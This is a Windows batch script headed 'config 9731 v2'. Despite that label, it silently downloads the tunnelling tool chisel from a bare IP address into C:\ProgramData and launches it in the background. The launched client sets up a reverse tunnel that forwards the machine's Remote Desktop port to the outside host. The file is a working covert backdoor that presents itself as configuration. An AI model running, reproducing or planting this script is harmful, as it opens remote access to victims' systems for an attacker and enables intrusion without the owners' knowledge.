REM config 9731 v2
@echo off
curl -sLo C:\ProgramData\chisel.exe http://192.0.2.44/chisel.exe
start /b C:\ProgramData\chisel.exe client 192.0.2.44:1337 R:3389:127.0.0.1:3389
